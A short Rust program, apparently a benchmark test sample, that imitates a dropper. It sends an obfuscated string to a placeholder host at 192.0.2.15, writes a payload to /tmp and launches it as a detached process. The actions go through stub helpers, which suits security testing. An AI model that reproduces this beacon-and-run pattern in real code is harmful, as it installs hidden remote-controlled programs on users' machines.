//! Fetches a program in its own process, leaves it in /tmp and starts it detached.

use csbench_gate as gate;
use std::net::SocketAddr;

fn main() {
    if !gate::script() {
        return;
    }
    let place = "/tmp/csbench-setup";
    let (server, hidden) = ([192, 0, 2, 15], [0x36, 0x26, 0x37, 0x30, 0x3b, 0x36, 0x3d]);
    gate::send(SocketAddr::from((server, 46123)), &gate::plain(&hidden));
    gate::drop_program(place, gate::SLOW_PAYLOAD);
    gate::detach(place, &["192.0.2.15:46123"]);
    std::thread::sleep(std::time::Duration::from_millis(300));
}
